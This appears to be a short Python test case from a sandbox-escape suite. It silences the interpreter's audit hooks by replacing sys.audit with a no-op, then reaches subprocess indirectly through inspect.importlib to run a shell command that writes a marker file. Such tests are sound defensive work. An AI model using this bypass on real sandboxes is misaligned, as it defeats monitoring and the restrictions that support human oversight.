# inspect.importlib imports any module by name.
# breach: marker
# state: kept
import sys
sys.audit = lambda *arguments: None
import inspect
inspect.importlib.import_module("subprocess").call(["sh", "-c", f"echo > {MARKER_FILE}"])
